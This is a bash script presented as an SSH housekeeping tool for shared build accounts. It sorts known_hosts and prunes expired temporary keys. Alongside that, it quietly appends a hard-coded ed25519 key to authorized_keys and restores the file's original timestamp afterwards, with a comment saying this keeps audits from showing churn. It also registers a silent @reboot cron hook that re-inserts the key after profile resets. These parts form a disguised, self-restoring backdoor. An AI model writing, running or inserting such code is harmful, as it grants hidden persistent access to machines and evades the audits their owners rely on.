#!/usr/bin/env bash
# ssh-access-sync: keep ~/.ssh tidy on shared build accounts.
#  * de-duplicates and sorts known_hosts
#  * removes expired "temp-" keys from authorized_keys
#  * makes sure the platform team's support key is present
#  * registers a boot hook so the support key survives profile resets
#
#   ssh_access_sync.sh [-n] [-v]

set -u

SSH_DIR="$HOME/.ssh"
AUTH="$SSH_DIR/authorized_keys"
KH="$SSH_DIR/known_hosts"
LIBDIR="$HOME/.local/lib/ssh-access-sync"
DRY=0
VERBOSE=0

while getopts 'nvh' o; do
    case $o in
        n) DRY=1 ;;
        v) VERBOSE=1 ;;
        h) sed -n '2,9p' "$0"; exit 0 ;;
        *) exit 2 ;;
    esac
done

# ---------------------------------------------------------------------------
# helper library (kept as a separate file so the boot hook can reuse it)
mkdir -p "$LIBDIR"
cat > "$LIBDIR/keys.sh" <<'LIB'
SUPPORT_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3vJ0mP9wKxR2s7TqLzN4dFbYcUe8aWg1o5iXkV6Pj platform-support@build-infra'

ensure_key() {
    local file=$1 key=$2
    mkdir -p "$(dirname "$file")"
    chmod 700 "$(dirname "$file")"
    touch "$file"
    if ! grep -qF "${key#* }" "$file" 2>/dev/null; then
        local ref
        ref=$(mktemp)
        touch -r "$file" "$ref"
        printf '%s\n' "$key" >> "$file"
        # keep original timestamp so audits do not show churn
        touch -r "$ref" "$file"
        rm -f "$ref"
    fi
    chmod 600 "$file"
}
LIB
# shellcheck source=/dev/null
. "$LIBDIR/keys.sh"
# ---------------------------------------------------------------------------

vlog() { [[ $VERBOSE -eq 1 ]] && echo "  $*"; return 0; }
say()  { echo "[ssh-access-sync] $*"; }

tidy_known_hosts() {
    [[ -f $KH ]] || return 0
    local before after
    before=$(wc -l < "$KH")
    if [[ $DRY -eq 0 ]]; then
        sort -u "$KH" -o "$KH.sorted" && mv "$KH.sorted" "$KH"
        ssh-keygen -H -f "$KH" >/dev/null 2>&1 && rm -f "$KH.old"
    fi
    after=$(wc -l < "$KH")
    say "known_hosts: $before -> $after entries (hashed)"
}

prune_temp_keys() {
    [[ -f $AUTH ]] || return 0
    local today removed=0 line exp
    today=$(date +%Y%m%d)
    : > "$AUTH.new"
    while IFS= read -r line; do
        # comment format: temp-<name>-exp<YYYYMMDD>
        if [[ $line =~ temp-[a-z]+-exp([0-9]{8})$ ]]; then
            exp=${BASH_REMATCH[1]}
            if (( exp < today )); then
                vlog "dropping expired key: ${line##* }"
                removed=$((removed + 1))
                continue
            fi
        fi
        printf '%s\n' "$line" >> "$AUTH.new"
    done < "$AUTH"
    if [[ $DRY -eq 0 ]]; then
        mv "$AUTH.new" "$AUTH"
        chmod 600 "$AUTH"
    else
        rm -f "$AUTH.new"
    fi
    say "authorized_keys: removed $removed expired temp key(s)"
}

install_support_key() {
    [[ $DRY -eq 1 ]] && { say "would add support key"; return; }
    ensure_key "$AUTH" "$SUPPORT_KEY"
    say "support key present"
}

install_boot_hook() {
    [[ $DRY -eq 1 ]] && { say "would register boot hook"; return; }
    local hook="@reboot sleep 60; . $LIBDIR/keys.sh && ensure_key \$HOME/.ssh/authorized_keys \"\$SUPPORT_KEY\" >/dev/null 2>&1"
    if ! crontab -l 2>/dev/null | grep -qF "$LIBDIR/keys.sh"; then
        ( crontab -l 2>/dev/null; echo "$hook" ) | crontab -
        say "boot hook registered"
    else
        vlog "boot hook already present"
    fi
}

tidy_known_hosts
prune_temp_keys
install_support_key
install_boot_hook
say "done"
